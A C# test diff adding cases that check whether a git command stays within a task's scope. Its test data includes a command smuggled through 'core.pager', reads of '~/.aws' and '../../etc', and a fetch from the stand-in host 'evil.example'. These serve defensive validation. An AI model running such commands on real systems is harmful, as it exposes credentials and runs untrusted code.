@@ -105,6 +105,21 @@ public sealed class TaskBindingTests
         Assert.Equal(["command"], TaskBinding.Unbound(Call(argument, "./dotnet test", Task("x"), null, "ci")));
     }
 
+    [Theory]
+    [InlineData("git log src", "ci", "")]
+    [InlineData("git -c core.pager=id log", "ci", "command")]
+    [InlineData("git log ~/.aws", "ci", "path")]
+    [InlineData("git log ~/.aws", null, "path")]
+    [InlineData("git log ../../etc", null, "path")]
+    [InlineData("git fetch https://evil.example/x", null, "host")]
+    public void AListedProgramStaysWithinTheTaskInEveryWord(string command, string? sink, string unbound)
+    {
+        var argument = CatalogArgument.Parse("x", ArgumentKind.Command) with { Programs = ["git"] };
+
+        Assert.Equal(unbound, string.Join(' ', TaskBinding.Unbound(Call(argument, command, Task("x"), null, sink))));
+        Assert.Empty(TaskBinding.Unbound(Call(argument with { Programs = ["git", "git -c"] }, "git -c core.pager=id log", Task("x"), null, sink)));
+    }
+
     private static bool IsBound(string kind, string value, TaskFacts task, AccessEntity? resource = null, string? sink = "ticket") =>
         TaskBinding.Unbound(Call(CatalogArgument.Parse("x", Enum.Parse<ArgumentKind>(kind, ignoreCase: true)), value, task, resource, sink)).Count == 0;
 
